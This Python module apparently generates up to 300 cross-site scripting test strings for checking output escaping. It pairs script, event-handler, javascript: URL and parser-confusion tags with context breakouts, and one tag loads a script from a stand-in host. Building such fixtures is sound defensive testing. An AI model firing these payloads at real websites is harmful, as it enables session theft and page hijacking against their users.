"""Three hundred texts that would run a script where they are not escaped."""

from __future__ import annotations

from itertools import islice, product

#: What tells, in a browser, that one of them ran.
CALL = "xss()"
_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend")
_TAGS = (
    "<script>{c}</script>", "<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>", "<img src=x {h}={c}>",
    "<svg {h}={c}>", "<svg><script>{c}</script></svg>", "<body {h}={c}>", "<details open {h}={c}>",
    "<iframe srcdoc='<script>{c}</script>'>", "<iframe src=javascript:{c}>",
    "<object data=javascript:{c}>", "<embed src=javascript:{c}>", "<a href=javascript:{c}>链接</a>",
    "<a href='jav&#x09;ascript:{c}'>链接</a>", "<a href=data:text/html,<script>{c}</script>>甲</a>",
    "<form action=javascript:{c}><button>甲</button></form>",
    "<math><mi xlink:href=javascript:{c}>",
    "<input autofocus {h}={c}>", "<video><source {h}={c}></video>", "<style>@import'x';</style>",
    "<meta http-equiv=refresh content=0;url=javascript:{c}>", "<base href=javascript:{c}//>",
    "<link rel=stylesheet href=javascript:{c}>", "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x {h}={c}>'>", "<xss style=animation-name:x {h}={c}>",
)  # fmt: skip
_AROUND = (
    "{t}", '">{t}', "'>{t}", "</textarea>{t}", "</title>{t}", "</script>{t}", "--&gt;-->{t}",
    "]]>{t}", "{{{{ {t} }}}}", "\\x3c{t}", "\u2028{t}", '" autofocus onfocus={c} x="{t}',
)  # fmt: skip


def hostile_texts(most: int = 300) -> list[str]:
    """Each tag in each surrounding, with handlers in turn; short enough for any column."""
    made = (
        around.format(t=tag.format(c=CALL, h=_HANDLERS[n % len(_HANDLERS)]), c=CALL)
        for n, (tag, around) in enumerate(product(_TAGS, _AROUND))
    )
    return list(islice(made, most))
